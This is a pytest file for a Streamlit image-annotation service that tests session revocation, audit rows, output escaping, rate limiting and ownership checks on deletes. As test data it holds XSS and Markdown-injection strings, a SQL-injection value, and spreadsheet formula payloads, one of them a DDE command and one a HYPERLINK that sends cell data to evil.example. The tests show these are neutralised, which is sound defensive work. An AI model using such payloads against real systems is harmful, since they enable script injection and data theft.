"""What a hostile test found, over a real SQLite store in tmp_path: a disabled, demoted or signed-out user's
old sign-in acting from a page's callback (refused in the service and audited), names that load images in
other users' browsers (rendered as text), names reversed by bidirectional controls and notes of any length
(cleaned and limited in the service), sign-in messages that tell which accounts exist and one throttle for
everyone on the loopback, and Home showing the data directory."""

from __future__ import annotations

import html
import io
import os
import re
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path

import numpy as np
import pytest
import tifffile
from markdown_it import MarkdownIt
from sqlalchemy import select, update
from streamlit.testing.v1 import AppTest

from storage.auth import accounts, audit, passwords
from storage.auth.accounts import Actor
from storage.models import Prediction, SignIn
from storage.records import starter
from storage.service import Neuroseg, UserError
from storage.settings import Settings
from storage.text import NAME_MAX, NOTES_MAX
from tests.accounts import make_user
from tests.drafts import new_draft, start_options
from ui.text import JOINER, cell, cells, plain, plain_html

ROOT = Path(__file__).resolve().parents[2]
GOOD = "a-good-password"
EVIL = "![x](http://127.0.0.1:1/x.png)"


@pytest.fixture
def svc(tmp_path, monkeypatch):
    monkeypatch.delenv("NEUROSEG_ADMIN_PASSWORD", raising=False)
    service = Neuroseg(Settings.from_env(tmp_path / "data"), supervise=False)
    yield service
    service.close()


def user(svc: Neuroseg, name: str, role: str, address: str = "10.0.0.7") -> Actor:
    svc.create_user(name, role, GOOD)
    svc._tx(lambda s: setattr(accounts.user_by_name(s, name), "must_change_password", False))
    return svc.sign_in(name, GOOD, address)[0]


def painted(svc: Neuroseg, dataset_id: int):
    draft = new_draft(svc, dataset_id, 0, start_options(svc, dataset_id, 0)[0])
    draft.working = draft.working.copy()
    draft.working[:5, :5] = 2
    return draft


def refused(svc: Neuroseg, username: str) -> list[tuple[str, str]]:
    return [(r.action, r.detail) for r in svc.audit_trail(username=username, outcome="refused")][::-1]


# --- 1. the account is read again on every guarded call ------------------------------------------------
def test_a_disabled_users_old_service_writes_nothing_and_the_refusals_are_audited(svc):
    ann = user(svc, "ann", "annotator")
    demo = svc.load_demo()
    as_ann = svc.acting_as(ann)  # what a page's callback holds: made before the admin disables ann
    draft = painted(as_ann, demo.id)
    as_ann.keep_draft(draft, "user:x")  # works while ann is enabled
    svc.set_disabled(ann.user_id, True)
    for call in (lambda: as_ann.save_draft(draft), lambda: as_ann.keep_draft(draft, "user:x"),
                 lambda: as_ann.update(demo.id, name="ann was here"), lambda: as_ann.stored_draft(demo.id, 0, "user:x"),
                 lambda: as_ann.volume(demo.id)):
        with pytest.raises(UserError, match="This account is disabled"):
            call()
    assert [m.version for m in svc.history(demo.id, 0)] == [1], "no mask version written"
    assert svc.dataset(demo.id).name == demo.name
    assert [a for a, _ in refused(svc, "ann")] == ["save mask", "keep draft", "rename", "look", "look"]
    assert all("disabled" in detail for _, detail in refused(svc, "ann"))
    with pytest.raises(UserError, match="This account is disabled"):
        svc.acting_as(ann).change_password(GOOD, "another-good-password")


def test_nobody_signed_in_reads_nothing_and_names_no_owner(svc):
    """The pages act as an anonymous actor until a sign-in: it may not read a dataset, nor name whose drafts
    to read (only the system, the command line and the workers, names an owner)."""
    ann = user(svc, "ann", "annotator")
    demo = svc.load_demo()
    as_ann = svc.acting_as(ann)
    as_ann.keep_draft(painted(as_ann, demo.id), "ignored")
    owner = f"user:{ann.user_id}"
    assert svc.stored_draft(demo.id, 0, owner) is not None and as_ann.drafts_of("someone else")  # (her own)
    nobody = svc.acting_as(Actor(None, "anonymous", "none"))
    for call in (lambda: nobody.stored_draft(demo.id, 0, owner), lambda: nobody.drafts_of(owner),
                 lambda: nobody.datasets(), lambda: nobody.volume(demo.id)):
        with pytest.raises(UserError, match="Please sign in"):
            call()
    assert nobody._owner(owner) != owner and nobody._author("ann") != "ann"


def test_what_a_self_refreshing_fragment_asks_ends_with_the_sign_in(svc):
    """A page's fragments that rerun by themselves (a run's or a prediction's progress, Live, the audit trail)
    are not behind the page's sign-in check: they ask ``refusal("look")`` first (pages.common.still_signed_in)."""
    ann = user(svc, "ann", "annotator")
    bob = user(svc, "bob", "viewer")
    as_ann, as_bob = svc.acting_as(ann), svc.acting_as(bob)
    assert as_ann.refusal("look") == "" == as_bob.refusal("look")
    svc.set_disabled(ann.user_id, True)
    assert "This account is disabled" in as_ann.refusal("look")
    again, token = svc.sign_in("bob", GOOD, "10.0.0.7")  # bob in another browser, who then signs out there
    svc.acting_as(again).sign_out(token)
    assert svc.acting_as(again).refusal("look") != "" and as_bob.refusal("look") == ""


def test_a_demoted_user_has_the_new_roles_rights_at_once_and_a_promoted_one_too(svc):
    ann, vic = user(svc, "ann", "annotator"), user(svc, "vic", "viewer")
    demo = svc.load_demo()
    as_ann, as_vic = svc.acting_as(ann), svc.acting_as(vic)
    svc.set_role(ann.user_id, "viewer")
    with pytest.raises(UserError, match=r"Your role \(viewer\) cannot save or restore masks"):
        as_ann.save_draft(painted(as_ann, demo.id))
    assert [m.version for m in svc.history(demo.id, 0)] == [1]
    assert refused(svc, "ann")[0][0] == "save mask"
    svc.set_role(vic.user_id, "annotator")  # vic's old sign-in says viewer: the store says annotator
    assert as_vic.save_draft(painted(as_vic, demo.id)).author == "vic"


def test_a_signed_out_or_expired_sign_in_is_refused_while_the_users_other_browsers_go_on(svc):
    ann = user(svc, "ann", "annotator")
    other, token = svc.sign_in("ann", GOOD, "10.0.0.8")
    demo = svc.load_demo()
    as_other = svc.acting_as(other)
    assert other.token_sha256 == accounts.token_digest(token) and token not in repr(other)
    as_other.sign_out(token)
    with pytest.raises(UserError, match="You are signed out"):
        as_other.save_draft(painted(svc, demo.id))
    with pytest.raises(UserError, match="You are signed out"):
        as_other.keep_draft(painted(svc, demo.id), "user:x")
    with pytest.raises(UserError, match="You are signed out"):  # reads too: a self-refreshing fragment's
        as_other.mask(svc.history(demo.id, 0)[0].id)
    assert svc.acting_as(ann).save_draft(painted(svc.acting_as(ann), demo.id)).version == 2  # ann's first browser
    svc._tx(lambda s: s.execute(update(SignIn).values(expires=datetime.now(UTC) - timedelta(seconds=1))))
    with pytest.raises(UserError, match="You are signed out"):
        svc.acting_as(ann).update(demo.id, name="late")
    assert [m.version for m in svc.history(demo.id, 0)] == [1, 2]
    assert [a for a, _ in refused(svc, "ann")] == ["save mask", "keep draft", "look", "rename"]


def test_a_callback_of_a_disabled_user_on_the_annotate_page_saves_nothing(app_data_dir):
    from tests.app.test_pages import draw

    svc = Neuroseg(Settings.from_env(app_data_dir), supervise=False)
    demo = svc.load_demo()
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=90)
    at.session_state["auth_token"] = make_user(app_data_dir, "ann", "annotator")
    at.run()
    at.switch_page("pages/annotate.py").run()
    draw(at, slice(300, 330), slice(90, 690), 2)
    assert "**Unsaved:" in " ".join(m.value for m in at.markdown)
    ann = next(u for u in svc.users() if u.username == "ann")
    svc.set_disabled(ann.id, True)
    since = svc.audit_trail(limit=1)[0].id
    # the callback runs before any sign-in check (and AppTest runs the switched page without the frame:
    # the whole page acts on the old sign-in in the session state)
    at.button(key="save_mask").click().run()
    assert [m.version for m in svc.history(demo.id, 0)] == [1], "nothing saved"
    after = [(r.action, r.outcome, r.detail) for r in svc.audit_trail(username="ann") if r.id > since][::-1]
    assert after[0] == ("save mask", "refused", "This account is disabled: ask an admin.")
    assert {outcome for _, outcome, _ in after} == {"refused"}, after
    svc.close()


def test_a_user_disabled_while_signed_in_is_told_so_on_the_next_click_and_stays_signed_out(app_data_dir):
    """The open tab of a user an admin disables: its next run shows the sign-in form with the reason, not a
    bare form (the tab's sign-in was theirs: telling them reveals nothing to anyone else). Enabled again, the
    account signs in anew: the old sign-in does not come back."""
    svc = Neuroseg(Settings.from_env(app_data_dir), supervise=False)
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=90)
    token = make_user(app_data_dir, "ann", "annotator")
    at.session_state["auth_token"] = token
    at.run()
    assert "User name" not in [t.label for t in at.text_input]
    ann = next(u.id for u in svc.users() if u.username == "ann")
    svc.set_disabled(ann, True)
    at.run()
    assert "This account is disabled: ask an admin." in [w.value for w in at.warning]
    assert [t.label for t in at.text_input][:2] == ["User name", "Password"]
    svc.set_disabled(ann, False)
    with pytest.raises(UserError, match="expired"):
        svc.signed_in(token)
    svc.close()


# --- 2. names are text wherever Streamlit renders Markdown ---------------------------------------------
HOSTILE = [EVIL, "[click](javascript:alert(1))", "<img src=x onerror=alert(1)>", "<http://evil.example/>",
           "**bold** _it_ `code` ~~gone~~", "# heading", "- item", "1. first", "> quote", "a | b | c",
           "$x^2$", ":red[colour] :material/home:", "+ one", "-.5 degrees", "2024. year", "back\\slash \\![x](y)",
           "&amp; &lt;b&gt; &#33;", "x\\", "=== ---", "see http://evil.example/login now", "HTTPS://evil.example",
           "www.evil.example/x", "ask a@evil.example", "mailto:a@evil.example", "Demo: synthetic EM"]


@pytest.mark.parametrize("text", HOSTILE)
def test_plain_renders_as_the_very_characters_typed(text):
    escaped = plain(text)
    assert "![" not in escaped and "](" not in escaped and "<" not in escaped
    md = MarkdownIt("commonmark", {"linkify": True}).enable(["table", "strikethrough", "linkify"])  # (GFM's autolinks)
    rendered = md.render(escaped)
    literal = html.escape(text, quote=False).replace('"', "&quot;")
    assert rendered.replace(JOINER, "") == f"<p>{literal}</p>\n", rendered
    # GitHub's Markdown (Streamlit's remark-gfm) finds bare links in the text once its escapes are read: what
    # it looks for is broken by an invisible word joiner, not by a backslash
    read = re.sub(r"\\(.)", r"\1", escaped).lower()
    assert not re.search(r"[a-z0-9]://|\bwww\.|[\w.+-]@|\b(mailto|xmpp):", read), read


def test_plain_drops_what_turns_text_around_and_plotly_gets_html_escapes():
    assert plain("a\u202eb\u2066c\x00d\u200f") == "abcd"
    assert plain("Demo: synthetic EM") == "Demo: synthetic EM"  # ordinary names stay as they are
    assert plain_html("<a href='x'>") == "&lt;a href=&#x27;x&#x27;&gt;"
    notes = MarkdownIt("commonmark").render(plain("line\n- item\n# head\n===\n![x](y) <b>\n  2. two"))
    assert not re.search(r"<(img|a|ul|ol|li|h\d|b)\b", notes), notes


def test_a_failed_predictions_reason_is_shown_to_other_users_as_text(app_data_dir, monkeypatch):
    """A foreign model's own exception text is what a failed prediction says, to everyone who opens it."""
    from storage.records import predictions
    from tests.store.test_starter import tiny_starter

    tiny_starter(app_data_dir.parent / "models", monkeypatch)
    svc = Neuroseg(Settings.from_env(app_data_dir))  # (it registers the starter model)
    demo = svc.load_demo()
    start = svc.checkpoint_choices()[0].id
    said = f"RuntimeError: {EVIL} [sign in again](http://evil.example/login) http://evil.example/login"
    with svc.sessions.begin() as s:
        job = predictions.submit_prediction(s, start, demo.id, [0])
        s.execute(update(Prediction).where(Prediction.id == job.id)
                  .values(status="FAILED", error=f"Traceback (most recent call last):\n  ...\n{said}"))
    svc.close()
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=90)
    at.session_state["auth_token"] = make_user(app_data_dir, "val", "viewer")
    at.run()
    at.switch_page("pages/predict.py").run()
    assert not at.exception, at.exception
    shown = [e.value for e in at.error]
    assert f"Prediction #{job.id} failed: {plain(said)}" in shown, shown
    assert "http://" not in "".join(shown) and "![" not in "".join(shown)


def test_table_text_that_a_spreadsheet_would_run_is_neutralised_and_numbers_are_not():
    formulas = ['=HYPERLINK("http://evil.example/?"&A2,"report")', "+cmd|' /C calc'!A0", "-2+3+cmd|'/C calc'!A0",
                "@SUM(1+1)", "\t=1+1", "\r=1"]
    assert [cell(f) for f in formulas] == ["'" + f for f in formulas]
    for kept in ["-0.25", "+3", "-1e-3", "12%", "stack-1", "—", "a=b", "", 5, -2.5, None, "-ve control", "+nan",
                 "-1,5"]:
        assert cell(kept) == kept
    assert cells([{"name": "=1+1", "n": -1}]) == [{"name": "'=1+1", "n": -1}]


def test_a_hostile_dataset_name_is_shown_as_text_on_the_datasets_page(app_data_dir):
    svc = Neuroseg(Settings.from_env(app_data_dir), supervise=False)
    demo = svc.load_demo()
    svc.update(demo.id, name=EVIL)
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=90)
    at.session_state["auth_token"] = make_user(app_data_dir, "ann", "annotator")
    at.run()
    at.switch_page("pages/datasets.py").run()
    assert not at.exception, at.exception
    shown = [str(e.value) for kind in ("markdown", "caption", "success", "info", "warning", "error", "subheader")
             for e in getattr(at, kind)]
    shown += [str(getattr(e, "label", "") or "") for e in _walk(at.main)]
    assert any(plain(EVIL) in s for s in shown), "the warning before a delete names it, escaped"
    svc.update(demo.id, name="=HYPERLINK(\"http://evil.example\")")
    at.run()
    table = next(d.value for d in at.dataframe if "name" in d.value.columns)
    assert table["name"].tolist() == ["'=HYPERLINK(\"http://evil.example\")"]  # (as its CSV download writes it)
    assert not [s for s in shown if "![" in s or "](" in s]
    svc.close()


def _walk(node):
    yield node
    for child in getattr(node, "children", {}).values():
        yield from _walk(child)


# --- 3. what the store keeps: no controls, limited lengths ----------------------------------------------
def test_names_and_notes_lose_bidi_and_control_characters_and_have_length_limits(svc):
    demo = svc.load_demo()
    info = svc.update(demo.id, name="  evil\u202egnp.exe \t\n name\u2066 ", notes="line 1\u202e\r\nline\x002\tend\x1b ")
    assert (info.name, info.notes) == ("evilgnp.exe name", "line 1\nline2\tend")
    with pytest.raises(UserError, match=f"A dataset's name has at most {NAME_MAX} characters"):
        svc.update(demo.id, name="n" * (NAME_MAX + 1))
    with pytest.raises(UserError, match="Notes have at most 10,000 characters"):
        svc.update(demo.id, notes="x" * 3_000_000)
    assert svc.update(demo.id, notes="y" * NOTES_MAX).notes == "y" * NOTES_MAX
    assert svc.dataset(demo.id).name == "evilgnp.exe name"
    assert [r.outcome for r in svc.audit_trail(action="rename")][:2] == ["ok", "failed"]

    volume = io.BytesIO()
    tifffile.imwrite(volume, np.zeros((2, 16, 16), np.uint8))
    volume.name = "\u202e" + "long " * 100 + ".tif"  # a file's name: cut, not refused
    uploaded = svc.import_upload(_named(volume))
    assert len(uploaded.name) <= NAME_MAX and uploaded.name.startswith("long long") and "\u202e" not in uploaded.name
    with pytest.raises(UserError, match="A dataset's name has at most"):
        svc.import_upload(_named(volume), name="typed " * 30)
    with pytest.raises(UserError, match="Notes have at most"):
        svc.import_upload(_named(volume), notes="z" * (NOTES_MAX + 1))

    model = svc._tx(starter.register, svc.store)
    if model.refused or model.checkpoint_id is None:
        pytest.skip(f"no starter model to rename: {model.message}")
    named = svc.update_model(model.checkpoint_id, name="model\u202e 1", notes="n\u2069otes\x07")
    assert (named.name, named.notes) == ("model 1", "notes")
    with pytest.raises(UserError, match="A model's name has at most"):
        svc.update_model(model.checkpoint_id, name="m" * 500)
    with pytest.raises(UserError, match="Notes have at most"):
        svc.update_model(model.checkpoint_id, notes="m" * (NOTES_MAX + 1))


def _named(buffer: io.BytesIO) -> io.BytesIO:
    copy = io.BytesIO(buffer.getvalue())
    copy.name = buffer.name
    return copy


def test_a_display_name_from_single_sign_on_is_cleaned_and_cut(svc):
    who, _ = svc.sign_in_oidc("https://idp.example", "sub-1", name="Eve \u202elivE" + "e" * 500,
                              email="eve@example.org", preferred="eve", issued_at=time.time(), nonce="n")
    assert "\u202e" not in who.display_name and len(who.display_name) == NAME_MAX


def test_a_single_sign_on_answer_signs_in_once_and_only_while_fresh(svc):
    """Streamlit keeps the provider's answer in a signed cookie for 30 days; every port of the host receives
    it and a sign-out leaves it. A copy of it (the same issuer, subject, issue time and nonce) signs nobody in,
    nor does an answer older than a few minutes: the user goes through the provider again."""
    issued = time.time()

    def sso(at: object, nonce: str = "n-1") -> str:
        return svc.sign_in_oidc("https://idp.example", "sub-7", preferred="jo", issued_at=at, nonce=nonce,
                                address="10.0.0.7")[0].username

    assert sso(issued) == "jo"
    for at, nonce in ((issued, "n-1"), (issued - 11 * 60, "n-2"), (None, "n-3"), ("soon", "n-4"),
                      (issued + 3600, "n-5")):
        with pytest.raises(UserError, match=r"^Your single sign-on has ended: sign in again\.$"):
            sso(at, nonce)
    assert sso(issued + 1, "n-6") == "jo"  # the provider's next answer
    rows = [(r.outcome, r.detail) for r in svc.audit_trail(username="jo", action="sign in")][::-1]
    refused = [f"single sign-on: {why}" for why in ("answer already used", "answer not fresh", "no issue time",
                                                     "no issue time", "answer not fresh")]
    assert rows == [("ok", "single sign-on"), *[("refused", why) for why in refused], ("ok", "single sign-on")]


# --- 4. sign-in answers that tell nothing, and a throttle per user on the loopback ----------------------
def test_the_sign_in_answers_are_the_same_for_an_account_and_a_name_that_is_none(svc):
    user(svc, "ann", "annotator")
    user(svc, "dora", "annotator")
    svc.set_disabled(next(u.id for u in svc.users() if u.username == "dora"), True)

    def answers(name: str) -> list[str]:
        out = []
        for _ in range(passwords.FREE_TRIES + 1):
            with pytest.raises(UserError) as refusal:
                svc.sign_in(name, "not-the-password", "10.0.0.9")
            out.append(re.sub(r"\d+ s", "N s", str(refusal.value)))
        return out

    ann, nobody, dora = answers("ann"), answers("nobody"), answers("dora")
    assert ann == nobody == dora
    # a disabled account's right password gets the same answer: it would tell that the password is right
    user(svc, "dee", "annotator")
    svc.set_disabled(next(u.id for u in svc.users() if u.username == "dee"), True)
    with pytest.raises(UserError, match=r"^Unknown user name or wrong password\.$"):
        svc.sign_in("dee", GOOD, "10.0.0.8")
    assert ann[0] == "Unknown user name or wrong password."
    assert ann[-1] == "Too many wrong passwords for this user name: wait N s and try again."
    assert "ann" not in ann[-1]


def test_wrong_passwords_sent_at_once_are_throttled_as_if_sent_one_by_one(svc):
    """Each browser session submits its form in a thread of its own: 30 guesses sent at the same moment were
    all checked against the password (the throttle's counts were read before the slow hash and written after)."""
    import threading

    from storage.auth.accounts import user_by_name

    user(svc, "carol", "annotator")
    start, answers = threading.Barrier(30), []

    def guess(i: int) -> None:
        start.wait()
        try:
            svc.sign_in("carol", f"guess-number-{i:04d}", "10.1.2.3")
            answers.append("in")
        except UserError as exc:
            answers.append("waits" if "wait" in str(exc) else "checked")

    threads = [threading.Thread(target=guess, args=(i,)) for i in range(30)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert answers.count("checked") == passwords.FREE_TRIES and answers.count("waits") == 30 - passwords.FREE_TRIES
    assert svc._tx(lambda s: user_by_name(s, "carol").failed_sign_ins) == passwords.FREE_TRIES  # none lost


def test_failures_on_the_loopback_count_per_user_name_and_elsewhere_per_address(svc):
    user(svc, "ann", "annotator", "127.0.0.1")
    user(svc, "bob", "annotator", "127.0.0.1")

    def failures(address: str, *names: str) -> None:
        def add(s) -> None:
            for i in range(passwords.ADDRESS_TRIES):
                name = names[i % len(names)]
                audit.record(s, None, "sign in", f"user {name}", "failed", "wrong password", address, username=name)
        svc._tx(add)

    failures("127.0.0.1", "ann")  # someone on the server itself tries ann's password over and over
    with pytest.raises(UserError, match="Too many failed sign-ins"):
        svc.sign_in("ann", GOOD, "127.0.0.1")
    assert svc.sign_in("bob", GOOD, "127.0.0.1")[0].username == "bob"  # bob, on the same machine, is not locked out
    failures("localhost", "mallory")
    assert svc.sign_in("bob", GOOD, "localhost")[0].username == "bob"
    failures("", "mallory")
    assert svc.sign_in("ann", GOOD, "")[0].username == "ann"
    failures("10.1.2.3", "a", "b", "c")  # a real address: it waits, whichever name
    with pytest.raises(UserError, match="Too many failed sign-ins from this address"):
        svc.sign_in("bob", GOOD, "10.1.2.3")
    assert {passwords.shared_address(a) for a in ("", "localhost", "127.0.0.1", "::1", "127.1.2.3")} == {True}
    assert not passwords.shared_address("10.0.0.1")


# --- 5. Home does not show where the store is ---------------------------------------------------------
def test_home_does_not_show_the_data_directory(app_data_dir):
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=90)
    at.session_state["auth_token"] = make_user(app_data_dir, "ann", "annotator")
    at.run()
    assert not at.exception and at.title[0].value == "Neuroseg"
    where = str(Path(os.environ["NEUROSEG_DATA_DIR"]).resolve())
    everything = [str(e.proto) for root in (at.main, at.sidebar) for e in _walk(root) if hasattr(e, "proto")]
    assert everything and not [p for p in everything if where in p or str(app_data_dir) in p]


def test_only_wrong_passwords_make_a_name_wait_whether_it_is_an_account_or_not(svc):
    user(svc, "ann", "annotator")
    for name in ("ann", "ghost"):
        for _ in range(passwords.FREE_TRIES + 1):  # empty passwords are not wrong ones: no wait after them
            with pytest.raises(UserError, match="Enter your password"):
                svc.sign_in(name, "", "10.0.0.1")
        with pytest.raises(UserError, match="Unknown user name or wrong password"):
            svc.sign_in(name, "not-the-password", "10.0.0.1")
    assert svc._tx(lambda s: len(s.scalars(select(SignIn)).all())) == 1  # ann's own sign-in only


# --- 6. a delete takes no other user's work with it --------------------------------------------------------
def test_a_delete_takes_no_other_users_work_with_it_unless_an_admin_does_it(svc):
    """Deleting your checkpoint or dataset also deleted the predictions and runs other users had made with it,
    and the audit trail named none of them. Now they are the admin's to delete with it (or their owner's,
    first), and each run or prediction a delete takes has its own audit row."""
    from storage.models import Checkpoint, Prediction, Run

    ann, bob, boss = user(svc, "ann", "annotator"), user(svc, "bob", "annotator"), user(svc, "boss", "admin")
    as_ann, as_bob, as_boss = svc.acting_as(ann), svc.acting_as(bob), svc.acting_as(boss)
    demo = as_ann.load_demo()

    def made(s):  # ann's finished run with two checkpoints; predictions with them by ann and by bob
        run = Run(status="FINISHED", spec={}, config={}, device="cpu", owner_id=ann.user_id)
        s.add(run)
        s.flush()
        ids = []
        for kind in ("best", "last"):
            c = Checkpoint(run_id=run.id, kind=kind, file=f"runs/{run.id}/{kind}.pt", step=1, sha256="", metrics={})
            s.add(c)
            s.flush()
            ids.append(c.id)
        owners = ((ids[0], ann), (ids[0], bob), (ids[1], bob))
        rows = [Prediction(checkpoint_id=c, dataset_id=demo.id, slices=[0], status="FINISHED", file="", sha256="",
                           files={}, owner_id=who.user_id) for c, who in owners]
        s.add_all(rows)
        s.flush()
        return run.id, ids, [p.id for p in rows]

    run_id, (best, _), (p_ann, p_bob, p_bob2) = svc._tx(made)
    assert as_ann.run_deletion_preview(run_id).others == (f"prediction {p_bob} (bob)", f"prediction {p_bob2} (bob)")
    with pytest.raises(UserError, match=rf"Deleting checkpoint {best} would also delete prediction {p_bob} \(bob\), "
                                        "which you do not own"):
        as_ann.delete_checkpoint(best)
    assert svc.prediction(p_bob).id == p_bob and svc.prediction(p_ann).id == p_ann  # nothing went
    with pytest.raises(UserError, match=f"Prediction {p_ann} belongs to ann"):
        as_bob.delete_prediction(p_ann)
    assert as_bob.delete_prediction(p_bob).predictions == 1  # bob deletes his own
    assert as_ann.delete_checkpoint(best).predictions == 1  # now only ann's own goes with it
    with pytest.raises(UserError, match=f"would also delete prediction {p_bob2} \\(bob\\)"):
        as_ann.delete_dataset(demo.id)
    assert as_boss.delete_dataset(demo.id).predictions == 1  # an admin's delete takes it
    trail = [(r.username, r.target, r.outcome, r.detail) for r in svc.audit_trail(action="delete")][::-1]
    assert [t[:3] for t in trail] == [  # (what a delete takes is written just before the delete's own row)
        ("ann", f"checkpoint {best}", "refused"), ("bob", f"prediction {p_ann}", "refused"),
        ("bob", f"prediction {p_bob}", "ok"), ("ann", f"prediction {p_ann}", "ok"),
        ("ann", f"checkpoint {best}", "ok"), ("ann", f"dataset {demo.id}", "refused"),
        ("boss", f"prediction {p_bob2}", "ok"), ("boss", f"dataset {demo.id}", "ok")]
    assert trail[3][3] == f"with checkpoint {best}" and trail[6][3] == f"with dataset {demo.id}, owned by bob"


def test_forged_arguments_get_a_clear_refusal_and_every_write_leaves_a_row_in_the_trail(svc):
    """What a forged request can hand the service (an id of 2**70, a string for an id or a slice, 1.5 for a
    slice, another slice's version as the parent of an edit): a refusal that says what is wrong, nothing
    written, and the attempt in the audit trail."""
    from storage.models import Checkpoint, Run
    from storage.records import live

    ann = user(svc, "ann", "annotator")
    demo = svc.load_demo()
    as_ann = svc.acting_as(ann)

    def made(s):  # a run (a live session) with a checkpoint, as rows: what predict and live_see look up
        run = Run(kind="live", spec={"dataset_id": demo.id}, config={}, owner_id=ann.user_id)
        s.add(run)
        s.flush()
        s.add(Checkpoint(run_id=run.id, step=1, kind="best", file="x", sha256="0" * 64))
        s.flush()
        return run.id

    run_id = svc._tx(made)
    checkpoint_id = svc._tx(lambda s: s.query(Checkpoint).one().id)
    for call, words in [(lambda: as_ann.update(2**70, name="x"), "There is no dataset"),
                        (lambda: as_ann.update("1 or 1=1", name="x"), "There is no dataset"),
                        (lambda: as_ann.delete_run(2**70), "There is no run"),
                        (lambda: as_ann.dataset(2**70), "out of range"),
                        (lambda: as_ann.predict(checkpoint_id, demo.id, [1.5]), "whole numbers"),
                        (lambda: as_ann.predict(checkpoint_id, demo.id, "12"), "whole numbers"),
                        (lambda: as_ann.score_run(999_999), "run 999999 does not exist"),
                        (lambda: as_ann.live_see(run_id, "o", "a"), "A slice is a number"),
                        (lambda: as_ann.live_see(run_id + 1, "o", 0), "does not exist")]:
        with pytest.raises(UserError, match=words):
            call()
    assert svc.predictions() == [] and svc._tx(lambda s: live.focus_slices(s, run_id, 3)) == ([], [])
    assert as_ann.dataset(np.int64(demo.id)).id == demo.id  # (a NumPy id is read as guarded calls take it)

    # an edit of slice 1 that names slice 0's version as what it started from
    draft = painted(as_ann, demo.id)
    draft.slice_index = 1
    with pytest.raises(UserError, match="not a version of slice 1"):
        as_ann.save_draft(draft)
    for z in (-1, 10**12, "0"):
        draft.slice_index = z
        with pytest.raises(UserError, match="outside the dataset's slices"):
            as_ann.keep_draft(draft, "x")
    assert [len(svc.history(demo.id, z)) for z in range(3)] == [1, 1, 1] and svc.drafts_of("user:2") == []
    failed = [r.action for r in svc.audit_trail(username="ann", outcome="failed")]
    assert failed.count("save mask") == 1 and "score" in failed  # (a kept draft is not audited: every stroke)

    # a fault the service did not foresee is in the trail too, and reaches the caller as it is
    with pytest.raises(AttributeError):
        as_ann.submit_training([{"dataset_id": demo.id, "slices": [0]}], [], {}, preset="tiny")
    row = svc.audit_trail(username="ann")[0]
    assert (row.action, row.outcome, row.detail) == ("train", "failed",
                                                      "AttributeError (the server's log has the details)")


def test_a_demoted_or_disabled_user_has_no_training_going_on_nor_waiting(svc):
    """A role that may not train stops the user's trainings, live sessions and predictions: a queued one is
    cancelled, a running one asked to stop (it keeps its checkpoints or blocks); each in the audit trail. (A
    viewer's live session was next in the queue, and their training ran on.)"""
    from storage.models import Checkpoint, Prediction, Run

    bob, eve = user(svc, "bob", "annotator"), user(svc, "eve", "annotator")
    demo = svc.load_demo()

    def rows(s):
        made = [Run(kind="train", status="QUEUED", spec={}, config={}, owner_id=bob.user_id),
                Run(kind="live", status="RUNNING", spec={"dataset_id": demo.id}, config={}, owner_id=bob.user_id),
                Run(kind="train", status="QUEUED", spec={}, config={}, owner_id=eve.user_id)]
        s.add_all(made)
        s.flush()
        checkpoint = Checkpoint(run_id=made[0].id, kind="best", file="x.pt", step=1, sha256="0" * 64, metrics={})
        s.add(checkpoint)
        s.flush()
        job = Prediction(checkpoint_id=checkpoint.id, dataset_id=demo.id, slices=[0], status="RUNNING",
                         file="", sha256="", files={}, pid=None, owner_id=bob.user_id)
        s.add(job)
        s.flush()
        return [r.id for r in made] + [job.id]

    queued, live_run, theirs, predicting = svc._tx(rows)
    assert svc.set_role(bob.user_id, "viewer").stopped == (f"run {queued}", f"live session {live_run}",
                                                           f"prediction {predicting}")
    assert svc.run(queued).status == "CANCELLED" and svc.run(live_run).cancel_requested
    assert svc.prediction(predicting).stopping  # (it stops after the block it is on)
    assert svc.run(theirs).status == "QUEUED", "another user's run goes on"
    trail = {(r.target, r.detail) for r in svc.audit_trail(action="cancel")}
    assert trail == {(f"run {queued}", "its owner's role is now viewer"),
                     (f"live session {live_run}", "its owner's role is now viewer"),
                     (f"prediction {predicting}", "its owner's role is now viewer")}
    assert svc.set_disabled(eve.user_id, True).stopped == (f"run {theirs}",)
    assert svc.run(theirs).status == "CANCELLED"
    assert (f"run {theirs}", "its owner's account is disabled") in {(r.target, r.detail)
                                                                    for r in svc.audit_trail(action="cancel")}
